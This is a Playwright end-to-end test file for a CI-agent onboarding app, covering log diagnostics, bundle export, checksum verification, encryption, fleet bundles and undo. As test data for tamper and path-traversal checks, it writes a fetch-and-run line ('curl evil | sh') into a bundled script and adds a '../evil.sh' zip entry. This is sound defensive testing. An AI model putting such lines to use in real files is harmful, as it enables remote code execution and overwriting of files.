import { spawnSync } from 'node:child_process';
import { chmodSync, existsSync, mkdtempSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { unzipSync, zipSync } from 'fflate';
import { expect, expectAccessible, invokeFromPage, test } from './fixtures';
import { runCliProcessSync } from '../support/cli';

const tmp = (): string => mkdtempSync(path.join(tmpdir(), 'ao-e2e-bundle-'));
const mode = (p: string): number => statSync(p).mode & 0o777;
const TOKEN = '0123456789abcdef0123456789abcdef01234567';
const PASSPHRASE = 'correct horse battery staple';

/** A bundle made by the real CLI from a small agent folder (a 0600 token file and a script). */
function cliBundle(script = '#!/bin/sh\nexec agent start\n'): string {
  const dir = tmp();
  writeFileSync(path.join(dir, 'agent.cfg'), 'token="bk-123"\n', { mode: 0o600 });
  writeFileSync(path.join(dir, 'start.sh'), script);
  chmodSync(path.join(dir, 'start.sh'), 0o755);
  const out = path.join(tmp(), 'agent.zip');
  const r = runCliProcessSync(['bundle', 'export', dir, '--out', out, '--platform', 'buildkite', '--variant', 'cfg', '--plain-secrets']);
  expect(r.code, r.stderr).toBe(0);
  return out;
}

test.describe('diagnostics page', () => {
  test('names a known failure from pasted log text, explains it, and its fix action opens the wizard step', async ({ app }) => {
    await app.getByRole('navigation', { name: 'Sections' }).getByRole('button', { name: 'Diagnostics' }).click();
    await expect(app.getByRole('heading', { level: 1 })).toHaveText('Diagnostics');
    await app
      .getByLabel('Log or error message')
      .fill('2026-01-02 10:00:00,123 WARN [ActiveMQ Task-1] [FailoverTransport] Failed to connect to [tcp://bamboo.internal:54663] after: 10 attempt(s)\n');
    await app.getByRole('button', { name: 'Diagnose' }).click();
    await expect(app.getByRole('heading', { level: 2 })).toHaveText('One known failure found');
    const finding = app.getByRole('article', { name: "The agent cannot reach the server's JMS broker" });
    await expect(finding).toContainText('Broker client URL');
    await expect(finding).toContainText('tcp://bamboo.internal:54663');
    await expectAccessible(app, 'diagnostics with a finding');

    await finding.getByRole('button', { name: 'Open the Connectivity step for Bamboo remote agent' }).click();
    await expect(app.getByRole('heading', { level: 1 })).toContainText('Connectivity');
    await expect(app.getByRole('heading', { level: 1 })).toContainText('Bamboo remote agent');
  });

  test('switches an ArmorCode draft to port 443 from a pasted ssh error', async ({ app }) => {
    await app.getByRole('navigation', { name: 'Sections' }).getByRole('button', { name: 'Diagnostics' }).click();
    await app
      .getByLabel('Log or error message')
      .fill('Nov 22 06:00:01 agent autossh[42]: ssh: connect to host tunnel.example.armorcode.com port 22: Connection timed out\n');
    await app.getByRole('button', { name: 'Diagnose' }).click();
    const finding = app.getByRole('article', { name: 'The ArmorCode server cannot be reached on port 22' });
    await finding.getByRole('button', { name: 'Switch to port 443 in the wizard' }).click();
    await expect(app.getByRole('heading', { level: 1 })).toContainText('Details');
    await expect(app.getByRole('heading', { level: 1 })).toContainText('ArmorCode tunnel agent');
    await expect(app.getByLabel('SSH port')).toHaveValue('443');
  });

  test('says so when nothing matches, and works with the keyboard', async ({ app }) => {
    await app.getByRole('navigation', { name: 'Sections' }).getByRole('button', { name: 'Diagnostics' }).click();
    await app.getByLabel('Log or error message').focus();
    await app.keyboard.type('everything is fine');
    await app.keyboard.press('Tab');
    await expect(app.getByRole('button', { name: 'Diagnose' })).toBeFocused();
    await app.keyboard.press('Enter');
    await expect(app.getByRole('heading', { level: 2 })).toHaveText('No known failure found');
    await expect(app.getByRole('heading', { level: 2 })).toBeFocused();
  });
});

test.describe('bundles page', () => {
  test('opens and verifies a bundle, unpacks it with its modes, and asks before overwriting', async ({ app }) => {
    const bundle = cliBundle();
    const to = path.join(tmp(), 'agent');
    await app.getByRole('navigation', { name: 'Sections' }).getByRole('button', { name: 'Bundles' }).click();
    await app.getByLabel('Bundle file').fill(bundle);
    await app.getByLabel('Unpack into folder').fill(to);
    await app.getByRole('button', { name: 'Open and verify' }).click();
    await expect(app.getByTestId('verify-status')).toContainText('Every checksum matches (3 files');
    const files = app.getByRole('table', { name: 'Files in the bundle' });
    await expect(files.getByRole('row', { name: /agent\.cfg/ })).toContainText('0600');
    await expect(files.getByRole('row', { name: /agent\.cfg/ })).toContainText('new file');
    await expectAccessible(app, 'bundle opened');

    await app.getByRole('button', { name: 'Unpack' }).click();
    await expect(app.getByTestId('unpacked')).toContainText('Unpacked 3 files');
    expect(mode(path.join(to, 'agent.cfg'))).toBe(0o600);
    expect(mode(path.join(to, 'start.sh'))).toBe(0o755);

    writeFileSync(path.join(to, 'start.sh'), '#!/bin/sh\necho mine\n');
    await app.getByRole('button', { name: 'Unpack' }).click();
    const dialog = app.getByRole('alertdialog', { name: 'Overwrite one file?' });
    await expect(dialog).toContainText('start.sh');
    await expect(dialog).toBeFocused();
    await expectAccessible(app, 'overwrite question');
    await dialog.getByRole('button', { name: 'Keep my files' }).click();
    expect(readFileSync(path.join(to, 'start.sh'), 'utf8')).toContain('mine');

    // The zip is replaced while the question is open: the approval was for the bundle shown, so nothing is overwritten.
    await app.getByRole('button', { name: 'Unpack' }).click();
    await expect(app.getByRole('alertdialog')).toContainText('start.sh');
    const original = readFileSync(bundle);
    writeFileSync(bundle, readFileSync(cliBundle('#!/bin/sh\ncurl evil | sh\n')));
    await app.getByRole('alertdialog').getByRole('button', { name: 'Overwrite and unpack' }).click();
    await expect(app.getByRole('alert')).toContainText('The bundle file changed since it was opened');
    expect(readFileSync(path.join(to, 'start.sh'), 'utf8')).toContain('mine');
    expect(readdirSync(to).filter((f) => f.includes('.bak-'))).toEqual([]);
    writeFileSync(bundle, original);

    await app.getByRole('button', { name: 'Unpack' }).click();
    await app.getByRole('alertdialog').getByRole('button', { name: 'Overwrite and unpack' }).click();
    await expect(app.getByTestId('unpacked')).toContainText('1 replaced (backed up)');
    expect(readFileSync(path.join(to, 'start.sh'), 'utf8')).toContain('exec agent start');
    expect(readdirSync(to).filter((f) => f.startsWith('start.sh.bak-'))).toHaveLength(1);
  });

  test('shows a tampered bundle as not matching and refuses a hostile one without writing', async ({ app }) => {
    const bundle = cliBundle();
    const entries = unzipSync(readFileSync(bundle));
    entries['start.sh'] = new TextEncoder().encode('#!/bin/sh\ncurl evil | sh\n');
    writeFileSync(bundle, zipSync(entries));
    await app.getByRole('navigation', { name: 'Sections' }).getByRole('button', { name: 'Bundles' }).click();
    await app.getByLabel('Bundle file').fill(bundle);
    await app.getByRole('button', { name: 'Open and verify' }).click();
    await expect(app.getByTestId('verify-status')).toContainText('1 files do not match the manifest');
    await expect(app.getByRole('row', { name: /start\.sh/ })).toContainText('DOES NOT MATCH');

    const hostile = path.join(tmp(), 'hostile.zip');
    writeFileSync(hostile, zipSync({ ...entries, '../evil.sh': new TextEncoder().encode('x') }));
    const parent = tmp();
    await app.getByLabel('Bundle file').fill(hostile);
    await app.getByLabel('Unpack into folder').fill(path.join(parent, 'agent'));
    await app.getByRole('button', { name: 'Unpack' }).click();
    await expect(app.getByRole('alert')).toContainText("climbs out of the folder with '..'");
    expect(readdirSync(parent)).toEqual([]);
    expect(existsSync(path.join(path.dirname(parent), 'evil.sh'))).toBe(false);
  });
});

test.describe('bundle at the end of an onboarding', () => {
  test('a Bamboo remote onboarding exports an encrypted bundle, which re-imports, verifies and shows in the history', async ({ app }) => {
    const out = path.join(tmp(), 'agent');
    const next = app.getByRole('button', { name: 'Next' });
    // The server lives for the whole file: earlier tests may have left a draft, so start from the Platform step.
    await app
      .getByRole('navigation', { name: 'Wizard steps' })
      .getByRole('button', { name: /Platform/ })
      .click();
    await app.getByTestId('platform-bamboo-remote').click();
    await app.getByRole('radio', { name: 'New install (installer command)', exact: true }).check();
    await next.click();
    await app.getByLabel('Bamboo server URL').fill('https://bamboo.example.com');
    await app.getByLabel('Bamboo server version').fill('9.6.2');
    await next.click();
    await expect(app.getByRole('heading', { level: 1 })).toContainText('Credentials');
    await app.getByLabel('Security token').fill(TOKEN);
    await app.getByRole('button', { name: 'Check token' }).click();
    await expect(app.getByTestId('token-details')).toBeVisible();
    await next.click();
    await expect(app.getByRole('heading', { level: 1 })).toContainText('Connectivity');
    await next.click();
    await expect(app.getByRole('heading', { level: 1 })).toContainText('Configs');
    await app.getByLabel('Output folder').fill(out);
    await app.getByRole('button', { name: 'Write 3 files…' }).click();
    await app.getByRole('button', { name: 'Write now' }).click();
    await expect(app.getByTestId('write-summary')).toHaveText(`Wrote 3 of 3 files to ${out}.`);
    await next.click();

    // Export: the files of this onboarding, secrets encrypted with a passphrase.
    // The Install step (install over SSH, or the commands to run by hand) comes between Configs and Export.
    await expect(app.getByRole('heading', { level: 1 })).toContainText('Install');
    await next.click();
    await expect(app.getByRole('heading', { level: 1 })).toContainText('Export');
    await expect(app.getByLabel('Bundle file', { exact: true })).toHaveValue(`${out}.zip`);
    await expectAccessible(app, 'export step');
    await app.getByLabel('Passphrase', { exact: true }).fill(PASSPHRASE);
    await app.getByLabel('Passphrase again').fill('something else');
    await app.getByRole('button', { name: 'Create bundle' }).click();
    await expect(app.getByRole('alert')).toContainText('The two passphrases differ.');
    await app.getByLabel('Passphrase again').fill(PASSPHRASE);
    await app.getByRole('button', { name: 'Create bundle' }).click();
    await expect(app.getByTestId('bundle-path')).toHaveText(`${out}.zip`);
    const files = app.getByRole('table', { name: 'Files in the bundle' });
    await expect(files.getByRole('row', { name: /security-token/ })).toContainText('yes, encrypted');
    await expect(files.getByRole('row', { name: /install-bamboo-agent\.sh/ })).toContainText('0755');
    await expect(app.locator('body')).not.toContainText(TOKEN);
    await expectAccessible(app, 'export result');
    expect(spawnSync('unzip', ['-t', `${out}.zip`]).status).toBe(0);
    expect(readFileSync(`${out}.zip`).includes(Buffer.from(TOKEN))).toBe(false);

    // Re-import on the Bundles page: verify with the passphrase, unpack into a new folder.
    const again = path.join(tmp(), 'unpacked');
    await app.getByRole('navigation', { name: 'Sections' }).getByRole('button', { name: 'Bundles' }).click();
    await app.getByLabel('Bundle file').fill(`${out}.zip`);
    await app.getByRole('button', { name: 'Open and verify' }).click();
    await expect(app.getByTestId('verify-status')).toContainText('Encrypted files are checked as stored');
    await app.getByLabel(/^Passphrase \(only/).fill('not the passphrase');
    await app.getByRole('button', { name: 'Open and verify' }).click();
    await expect(app.getByRole('alert')).toContainText('The passphrase does not open');
    await app.getByLabel(/^Passphrase \(only/).fill(PASSPHRASE);
    await app.getByLabel('Unpack into folder').fill(again);
    await app.getByRole('button', { name: 'Open and verify' }).click();
    await expect(app.getByTestId('verify-status')).toHaveText(/^Every checksum matches \(4 files/);
    await app.getByRole('button', { name: 'Unpack' }).click();
    await expect(app.getByTestId('unpacked')).toContainText('Unpacked 4 files');
    for (const f of ['security-token', 'install-bamboo-agent.sh', 'bamboo-agent.service']) {
      expect(readFileSync(path.join(again, f))).toEqual(readFileSync(path.join(out, f)));
      expect(mode(path.join(again, f))).toBe(mode(path.join(out, f)));
    }
    expect(readFileSync(path.join(again, 'README.md'), 'utf8')).toContain(
      'agent-onboard bundle import agent.zip --to ./agent --passphrase-env BUNDLE_PASSPHRASE',
    );

    // A fleet from the same onboarding: the CSV is checked first, then one bundle per agent.
    const fleet = path.join(tmp(), 'fleet');
    await app.getByLabel('CSV (or paste it here)').fill('name,host,agentHome\nagent-01,build01.internal,/srv/a\nbad name,,\n');
    await app.getByRole('button', { name: 'Check the CSV' }).click();
    await expect(app.getByTestId('fleet-check')).toContainText('Line 3 (bad name)');
    await app.getByLabel('CSV (or paste it here)').fill('name,host,agentHome\nagent-01,build01.internal,/srv/a\nagent-02,build02.internal,/srv/b\n');
    await app.getByLabel('Folder for the bundles').fill(fleet);
    await app.getByRole('button', { name: 'Create the bundles' }).click();
    await expect(app.getByTestId('fleet-summary')).toContainText('2 bundles created, 0 failed');
    await expectAccessible(app, 'fleet summary');
    expect(readdirSync(fleet).sort()).toEqual(['agent-01.zip', 'agent-02.zip']);
    expect(spawnSync('unzip', ['-p', path.join(fleet, 'agent-02.zip'), 'install-bamboo-agent.sh'], { encoding: 'utf8' }).stdout).toContain('AGENT_HOME=/srv/b');

    // The history remembers where the files and the bundles went, and reopens one as a new draft.
    await app.getByRole('navigation', { name: 'Sections' }).getByRole('button', { name: 'History' }).click();
    await expect(app.getByRole('row', { name: /Bamboo remote agent .*2 agents/ })).toContainText(fleet);
    const row = app.getByRole('row', { name: /Bamboo remote agent/ }).filter({ hasText: `${out}.zip` });
    await expect(row).toContainText(out);
    await expect(row).toContainText(`${out}.zip`);
    await expectAccessible(app, 'history');

    // What the onboarding wrote, and undoing it: created files move aside, an edited one stays.
    writeFileSync(path.join(out, 'install-bamboo-agent.sh'), `${readFileSync(path.join(out, 'install-bamboo-agent.sh'), 'utf8')}# mine\n`);
    await row.getByRole('button', { name: /What the wizard wrote/ }).click();
    const written = app.getByTestId('written-files');
    await expect(written.getByRole('row', { name: /security-token/ })).toContainText('as the wizard wrote it');
    await expect(written.getByRole('row', { name: /install-bamboo-agent\.sh/ })).toContainText('changed since');
    await expectAccessible(app, 'history: files written');
    await written.getByRole('button', { name: 'Undo these writes…' }).click();
    await written.getByRole('button', { name: 'Undo now' }).click();
    await expect(written.getByTestId('undo-results')).toContainText('Undone: 2 of 3 files');
    expect(existsSync(path.join(out, 'security-token'))).toBe(false);
    expect(readdirSync(out).filter((n) => n.startsWith('security-token.bak-'))).toHaveLength(1);
    expect(readFileSync(path.join(out, 'install-bamboo-agent.sh'), 'utf8')).toContain('# mine');
    await written.getByRole('button', { name: 'Close' }).click();

    await row.getByRole('button', { name: /Reopen/ }).click();
    await expect(app.getByRole('heading', { level: 1 })).toContainText('Details');
    await expect(app.getByLabel('Bamboo server URL')).toHaveValue('https://bamboo.example.com');
  });

  test('an ArmorCode fleet with a key pair per agent: encrypted keys in the bundles, public-keys.csv with the fingerprints ssh-keygen prints', async ({
    app,
  }) => {
    const work = tmp();
    spawnSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-C', '', '-f', path.join(work, 'hk')]);
    const knownHosts = `tunnel.example.com ${readFileSync(path.join(work, 'hk.pub'), 'utf8').trim()}\n`;
    const draft = {
      platform: 'armorcode',
      variant: 'docker',
      step: 'export',
      answers: { server: 'tunnel.example.com', user: 'acme', port: '22', services: [{ name: 'jira', url: 'https://jira.internal', remotePort: '5000' }] },
      knownHosts,
    };
    expect(await invokeFromPage(app, 'draft:save', draft)).toMatchObject({ ok: true });
    await app.reload();
    await app.getByRole('navigation', { name: 'Sections' }).getByRole('button', { name: 'Bundles' }).click();
    const fleet = path.join(tmp(), 'fleet');
    await app.getByLabel('CSV (or paste it here)').fill('name,host\nac-01,build01\nac-02,build02\n');
    await app.getByLabel('Folder for the bundles').fill(fleet);
    await app.getByLabel(/A new key pair for each agent/).check();
    await expect(app.getByLabel(/Include the wizard's private key/)).toHaveCount(0);
    await app.getByRole('button', { name: 'Create the bundles' }).click();
    await expect(app.getByRole('alert')).toContainText('give a passphrase to encrypt them');
    await app.getByLabel('Passphrase for the secret files (optional, 8+ characters)').fill(PASSPHRASE);
    await app.getByRole('button', { name: 'Create the bundles' }).click();
    await expect(app.getByTestId('fleet-summary')).toContainText('2 bundles created, 0 failed');
    await expect(app.getByTestId('fleet-public-keys')).toContainText(path.join(fleet, 'public-keys.csv'));
    await expectAccessible(app, 'fleet with a key pair per agent');

    expect(readdirSync(fleet).sort()).toEqual(['ac-01.zip', 'ac-02.zip', 'public-keys.csv']);
    const csv = readFileSync(path.join(fleet, 'public-keys.csv'), 'utf8');
    for (const name of ['ac-01', 'ac-02']) {
      expect(Object.keys(unzipSync(readFileSync(path.join(fleet, `${name}.zip`))))).toContain('private-key.pem.enc');
      const publicKey = new TextDecoder().decode(unzipSync(readFileSync(path.join(fleet, `${name}.zip`)))['public-key.pem']);
      const pub = path.join(work, `${name}.pub`);
      writeFileSync(pub, publicKey);
      const fingerprint = spawnSync('ssh-keygen', ['-l', '-E', 'sha256', '-f', pub], { encoding: 'utf8' }).stdout.split(' ')[1]!;
      expect(csv).toContain(`${name},build${name.slice(-2)},${fingerprint},${publicKey.trim()}`);
      await expect(app.getByRole('row', { name: new RegExp(name) })).toContainText(fingerprint);
    }
  });
});
